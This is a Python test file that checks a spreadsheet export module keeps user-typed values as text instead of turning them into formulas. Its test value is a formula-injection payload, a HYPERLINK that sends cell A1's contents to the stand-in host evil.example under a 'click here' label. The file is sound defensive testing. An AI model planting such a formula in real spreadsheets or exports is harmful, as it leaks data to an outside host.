"""Typed text in an export or ledger stays text: a value like =HYPERLINK(...) must never become a formula."""

import io

from openpyxl import Workbook, load_workbook

from huijia.core.excel import keep_text, write_xlsx

TYPED = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


def test_write_xlsx_keeps_typed_formulas_as_text():
    out = io.BytesIO()
    write_xlsx(out, title="导出", header=["意见"], rows=[[TYPED], ["普通意见"], [-3]])
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cell = sheet["A2"]
    assert cell.value == TYPED
    assert cell.data_type == "s"  # a string, not a formula
    assert sheet["A3"].value == "普通意见"
    assert sheet["A4"].value == -3


def test_keep_text_turns_inferred_formulas_on_a_sheet_into_text():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([1, TYPED])
    keep_text(sheet[1])
    out = io.BytesIO()
    workbook.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["B1"]
    assert cell.value == TYPED
    assert cell.data_type == "s"
